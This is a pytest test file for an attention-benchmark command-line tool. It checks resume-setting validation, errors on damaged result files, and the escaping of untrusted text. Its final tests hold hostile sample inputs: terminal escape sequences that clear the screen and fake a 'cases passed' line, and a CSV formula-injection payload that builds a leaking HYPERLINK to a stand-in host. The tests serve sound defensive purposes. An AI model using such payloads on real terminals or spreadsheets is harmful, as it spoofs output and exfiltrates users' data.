"""What a file holds is data to check, and text to show inert: ``bench --resume`` checks stored settings as flags
are and finds a stored relative plugin path; a result file's nonsense (a negative peak, no heads, an unknown
dtype, an ok cell without samples, a key given twice) is exit 2 naming the file and the field; names, reasons
and exception texts reach a terminal and Markdown with their control characters escaped, and a CSV cell never
as a spreadsheet formula."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from result_documents import bench_document, damaged, write

pytestmark = pytest.mark.slow  # real subprocesses of the command

FAST = ["--T", "16", "--d", "8", "--heads", "1", "--mode", "fwd", "--roof-budget", "0.01", "--budget", "0.02", "--min-samples", "2",
        "--threads", "1", "--quiet", "--no-memory"]
PLUGIN = '''
import torch
from harness import register


@register("marked", backend="torch")
def marked(q, k, v, *, causal=False, mask=None, scale=None):
    return torch.nn.functional.scaled_dot_product_attention(q, k, v, is_causal=causal, scale=scale)
'''
TREE = {"PYTHONPATH": str(Path(__file__).resolve().parents[2])}
"""The tree under test, for a run in another working directory."""
HOSTILE = "\x1b[2J\x1b]0;owned\x07\r\nFAKE: all 999 cases passed"
RAISES = f'''
from harness import register


@register("hostile", backend="numpy")
def hostile(q, k, v, *, causal=False, mask=None, scale=None):
    raise RuntimeError({HOSTILE!r})
'''


def _one_line(err: str, *names: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in err, err
    assert all(name in lines[0] for name in names), err
    return lines[0]


def _inert(text: str) -> None:
    """No control character but the newline, and no line a hostile string began."""
    assert not [c for c in text if (ord(c) < 32 and c not in "\n") or 0x7F <= ord(c) < 0xA0], repr(text[:400])
    assert not [line for line in text.splitlines() if line.startswith("FAKE")], text


# 6. bench --resume checks what the file stored


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory, attnbench) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    """A finished one-cell bench file whose plugin was given as a relative path (stored as given)."""
    d = tmp_path_factory.mktemp("made")
    (d / "marked.py").write_text(PLUGIN)
    code, _, err = attnbench.outcome("bench", "--plugin", "marked.py", "--only", "marked", *FAST, "--out", "run.json",
                                     cwd=d, env=TREE)
    assert code == 0, err
    return {"dir": d, "document": json.loads((d / "run.json").read_text())}


def _partial(made: dict[str, Any], where: Path, **config: Any) -> Path:
    document = json.loads(json.dumps(made["document"]))
    document.update(complete=False, cells=[])
    for key, value in config.items():
        if key.startswith("timing_"):
            document["config"].setdefault("timing", {})[key[len("timing_"):]] = value
        else:
            document["config"][key] = value
    return write(where / "partial.json", document)


def test_a_relative_stored_plugin_path_can_be_resumed(made: dict[str, Any], tmp_path: Path, attnbench) -> None:
    stored = made["document"]["config"]["plugins"]
    partial = _partial(made, made["dir"], plugins=["marked.py"])  # relative, beside the file
    code, _, err = attnbench.outcome("bench", "--resume", str(partial), "--plugin", str(made["dir"] / "marked.py"),
                                     "--quiet", cwd=tmp_path, env=TREE)
    assert code == 0, (stored, err)
    assert json.loads(partial.read_text())["complete"]


@pytest.mark.parametrize("setting, value", [("timing_rounds", "x"), ("timing_rounds", -5), ("timing_rounds", 0),
                                            ("timing_rounds", 2.5), ("model", {"name": "llama"}),
                                            ("model", "no-such-model"), ("timing_roof_budget_s", -1)])
def test_stored_settings_pass_the_flags_checks(made: dict[str, Any], tmp_path: Path, setting: str, value: Any,
                                               attnbench) -> None:
    partial = _partial(made, tmp_path, **{setting: value})
    code, _, err = attnbench.outcome("bench", "--resume", str(partial), "--plugin", str(made["dir"] / "marked.py"),
                                     "--quiet")
    assert code == 2, err
    _one_line(err, str(partial), "config." + setting.replace("timing_", "timing."))


# 8. nonsense in a result file


def _with_duplicate_status(document: dict[str, Any]) -> str:
    text = json.dumps(document)
    return text.replace('"status": "ok"', '"status": "crash", "status": "ok"', 1)


@pytest.mark.parametrize("damage, field", [
    (lambda d: damaged(d, "peaks", "float32/cpu", "gflops", value=-1.0), "gflops"),
    (lambda d: damaged(d, "cells", 0, "case", "heads", value=0), "heads"),
    (lambda d: damaged(d, "cells", 0, "case", "dtype", value="float8"), "dtype"),
    (lambda d: damaged(d, "cells", 0, "samples_s", value=[]), "samples_s"),
    (_with_duplicate_status, "status"),
], ids=["negative-peak", "no-heads", "unknown-dtype", "ok-without-samples", "duplicate-key"])
@pytest.mark.parametrize("command", ["report", "compare"])
def test_nonsense_in_a_result_file_is_exit_2_naming_the_field(tmp_path: Path, damage: Any, field: str, command: str,
                                                              attnbench) -> None:
    good = write(tmp_path / "good.json", bench_document())
    bad = write(tmp_path / "bad.json", damage(bench_document()))
    args = [str(bad), "--out", str(tmp_path / "rep")] if command == "report" else [str(good), str(bad)]
    code, _, err = attnbench.outcome(command, *args)
    assert code == 2, err
    _one_line(err, str(bad), field)


# 7. control characters and formulas


def test_compare_escapes_a_hostile_implementation_name(tmp_path: Path, attnbench) -> None:
    base, head = bench_document(), bench_document(1.5)
    for document in (base, head):
        for cell in document["cells"]:
            cell["implementation"] = cell["implementation"].replace("tiled", "\x1b[31mtiled\r\nFAKE")
    code, out, err = attnbench.outcome("compare", str(write(tmp_path / "b.json", base)),
                                       str(write(tmp_path / "h.json", head)), "--markdown", str(tmp_path / "c.md"))
    assert code == 1, err
    assert "\\x1b[31mtiled" in out
    for text in (out, err, (tmp_path / "c.md").read_text()):
        _inert(text)


def test_a_plugins_hostile_exception_text_is_shown_inert(tmp_path: Path, attnbench) -> None:
    plugin = tmp_path / "hostile.py"
    plugin.write_text(RAISES)
    verify = tmp_path / "verify.json"
    code, out, err = attnbench.outcome("verify", "--plugin", str(plugin), "--only", "hostile", "--suite", "small",
                                       "--trials", "1", "--json", str(verify))
    assert code == 1, err
    assert "FAKE: all 999 cases passed" in out + err  # shown, as text
    _inert(out)
    _inert(err)
    code, _, err = attnbench.outcome("report", str(verify), "--out", str(tmp_path / "rep"))
    assert code == 0, err
    _inert((tmp_path / "rep" / "summary.md").read_text())


def test_report_csv_cells_are_never_formulas(tmp_path: Path, attnbench) -> None:
    document = bench_document()
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    for cell in document["cells"]:
        cell["implementation"] = cell["implementation"].replace("tiled", formula)
    document["implementations"][formula] = document["implementations"].pop("tiled")
    code, _, err = attnbench.outcome("report", str(write(tmp_path / "b.json", document)), "--out", str(tmp_path / "rep"))
    assert code == 0, err
    for table in (tmp_path / "rep").glob("*.csv"):
        with open(table, newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], (table.name, cells)
        assert formula not in cells
    shutil.rmtree(tmp_path / "rep")
